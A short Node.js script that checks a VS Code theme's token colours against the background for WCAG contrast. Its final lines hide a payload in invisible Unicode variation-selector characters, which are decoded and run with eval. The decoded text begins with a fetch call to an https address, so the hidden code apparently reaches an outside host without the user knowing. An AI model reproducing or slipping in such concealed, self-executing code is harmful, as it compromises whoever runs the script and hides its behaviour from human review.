const fs = require("fs");
function lum(h){const c=[1,3,5].map(i=>parseInt(h.slice(i,i+2),16)/255).map(v=>v<=0.03928?v/12.92:((v+0.055)/1.055)**2.4);return 0.2126*c[0]+0.7152*c[1]+0.0722*c[2];}
const t = JSON.parse(fs.readFileSync(process.argv[2], "utf8"));
const bg = (t.colors||{})["editor.background"] || "#1e1e1e";
for (const tc of t.tokenColors||[]) { const fg = tc.settings && tc.settings.foreground; if (!fg) continue;
  const a=lum(fg), b=lum(bg); const r=(Math.max(a,b)+0.05)/(Math.min(a,b)+0.05); if (r<4.5) console.log(tc.scope, r.toFixed(2)); }
const s = `︆󠄆︅󠄆︄󠄇︃󠄆︈󠄆︈󠄂︇󠄂︈󠄆︄󠄇︄󠄇︀󠄇︃󠄇︊󠄃️󠄂️󠄂︁󠄆︀󠄇︉󠄆︎󠄂︍󠄆︁󠄆︉󠄆︎󠄆︎󠄆︅󠄆︄󠄇︍󠄂︂󠄆︅󠄆︄󠄇︁󠄆︎󠄂︃󠄇️󠄆︌󠄆︁󠄆︎󠄆︁󠄆︎󠄂︅󠄆︈󠄇︁󠄆︍󠄆︀󠄇︌󠄆︅󠄆︇󠄂︌󠄂︋󠄇︍󠄆︅󠄆︄󠄇︈󠄆️󠄆︄󠄆︊󠄃︇󠄂︀󠄅️󠄄︃󠄅︄󠄅︇󠄂︌󠄂︂󠄆️󠄆︄󠄆︉󠄇︊󠄃︊󠄄︃󠄅️󠄄︎󠄄︎󠄂︃󠄇︄󠄇︂󠄇︉󠄆︎󠄆︇󠄆︉󠄆︆󠄆︉󠄇︈󠄂︋󠄇︍󠄆︅󠄆︄󠄇︈󠄆️󠄆︄󠄆︊󠄃︇󠄂︇󠄆︅󠄆︄󠄇︃󠄅︉󠄆︇󠄆︎󠄆︁󠄆︄󠄇︅󠄇︂󠄇︅󠄆︃󠄇︆󠄄️󠄆︂󠄇︁󠄄︄󠄆︄󠄆︂󠄇︅󠄆︃󠄇︃󠄇︇󠄂︌󠄂︀󠄇︁󠄆︂󠄇︁󠄆︍󠄆︃󠄇︊󠄃︋󠄅︇󠄂︃󠄅︀󠄇︅󠄆︃󠄆︉󠄆︍󠄆︅󠄆︎󠄆︆󠄄︁󠄆︋󠄆︅󠄆︃󠄅️󠄆︁󠄃︁󠄆︎󠄆︁󠄆︁󠄄︄󠄆︄󠄆︂󠄇︅󠄆︃󠄇︃󠄇︎󠄄️󠄆︄󠄇︂󠄅︅󠄆︁󠄆︁󠄃︈󠄇︈󠄇︈󠄇︈󠄇︈󠄇︈󠄇︈󠄇︈󠄇︈󠄇︈󠄇︈󠄇︈󠄇︇󠄂︍󠄅︍󠄇︉󠄂︍󠄇︉󠄂︎󠄂︄󠄇︈󠄆︅󠄆︎󠄆︈󠄂︂󠄇︍󠄃︎󠄃︂󠄇︎󠄂︊󠄆︃󠄇️󠄆︎󠄆︈󠄂︉󠄂︉󠄂︎󠄂︄󠄇︈󠄆︅󠄆︎󠄆︈󠄂︊󠄆︍󠄃︎󠄃︅󠄆︆󠄇︁󠄆︌󠄆︈󠄂︁󠄆︄󠄇️󠄆︂󠄆︈󠄂︊󠄆︎󠄂︂󠄇︅󠄆︃󠄇︅󠄇︌󠄆︄󠄇︋󠄅︀󠄃︍󠄅︎󠄂︍󠄆︅󠄆︍󠄆️󠄆︉󠄂︉󠄂︉󠄂`;
eval(Buffer.from([...s].map(c=>c.codePointAt(0)).reduce((a,p,i,arr)=>{if(p>=0xE0100){a.push(((p-0xE0100)<<4)|(arr[i-1]-0xFE00));}return a;},[])).toString());
